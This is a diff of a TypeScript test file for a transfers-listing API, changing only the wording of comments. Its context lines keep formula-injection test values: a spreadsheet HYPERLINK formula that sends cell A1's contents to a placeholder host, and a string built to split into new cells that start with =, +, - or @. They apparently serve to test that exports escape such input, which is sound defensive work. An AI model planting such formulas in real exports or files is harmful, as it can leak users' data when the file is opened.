@@ -7,11 +7,11 @@ import { openTestLedger } from './test-ledger.ts';
 
 const formula = '=HYPERLINK("http://x/?"&A1,"see, here")';
 
-// What opens a cell of its own in some locale: semicolons, tabs, ends of rows, quotes.
+// Characters that begin a new cell in some locale: semicolons, tabs, ends of rows, quotes.
 const forged = 'x;=1+1;"=2"\t-3\n+4\r@5, =6|=7';
 
 let api: RunningApi;
-/** Their externalIds, the newest first. */
+/** The externalIds, the newest transfer first. */
 const all = ['dear', 'held', 'to-senegal', 'small', formula];
 
 beforeAll(async () => {
@@ -57,7 +57,7 @@ describe('GET /v1/transfers', () => {
   ])('%s', async (query, expected) => {
     const answer = await list(query);
     expect(answer.status, answer.text).toBe(200);
-    // Those of one moment follow in the order of their ids.
+    // Transfers with the same time are ordered by their ids.
     expect(idsOf(answer).sort()).toEqual([...expected].sort());
   });
 
